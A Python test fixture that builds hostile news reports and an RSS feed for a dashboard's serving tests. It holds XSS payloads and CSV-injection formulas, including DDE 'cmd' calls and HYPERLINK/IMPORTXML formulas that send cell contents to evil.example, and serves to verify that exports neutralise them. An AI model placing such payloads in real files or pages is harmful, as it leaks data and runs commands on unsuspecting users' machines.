"""Hostile input for the serving tests (issue "the dashboard under load and attack"): reports whose text,
source, link and feed ids carry script tags and spreadsheet formulas, and a store built from them plus the
dev corpus (so the default view has data around them)."""

from __future__ import annotations

from pathlib import Path

from tests.conftest import SAMPLE

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
XSS_DAY = "2025-03-14"  # the attack night of the XSS report

# The classic CSV-injection payloads (OWASP "CSV Injection" and the DDE examples): each must reach a
# spreadsheet as text, never as a formula.
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\n=1+1",
)

XSS_REPORT = f"""---
published: {XSS_DAY}T08:00:00+02:00
source: "{IMG} Wire"
url: "javascript:alert(1)"
language: en
---
Russia launched 40 Shahed drones {SCRIPT} at Ukraine overnight {IMG}, and 31 of them were shot down.

Power was cut in Kharkiv region after the strike {SCRIPT}.
"""

FEED = """<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel><title>=HYPERLINK("http://evil.example","feed")</title><language>en</language>
<item><guid isPermaLink="false">=cmd|' /C calc'!A0</guid><link>javascript:alert(1)</link>
<title>Overnight attack</title><pubDate>sometime last night</pubDate>
<description>Russia launched 12 Shahed drones at Ukraine overnight; 9 were shot down.</description></item>
</channel></rss>
"""


def write_reports(folder: Path) -> Path:
    """The hostile reports: the XSS report, one report per formula payload (as its source and first words),
    and a feed whose title, item id and link are hostile."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "xss.md").write_text(XSS_REPORT, encoding="utf-8")
    for n, payload in enumerate(FORMULAS):
        quoted = payload.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r") \
            .replace("\n", "\\n")
        (folder / f"formula-{n:02}.md").write_text(
            f'---\npublished: 2025-04-{n + 1:02}T09:00:00+02:00\nsource: "{quoted}"\nlanguage: en\n---\n'
            f"{payload} Russia fired {20 + n} drones at Ukraine overnight.\n", encoding="utf-8")
    (folder / "hostile.rss").write_text(FEED, encoding="utf-8")
    return folder


def build_store(folder: Path) -> Path:
    """A store of the hostile reports and the dev corpus."""
    from etl.refresh import refresh

    store = folder / "hostile.duckdb"
    refresh(store, [str(write_reports(folder / "reports")), str(SAMPLE / "corpus-dev")])
    return store
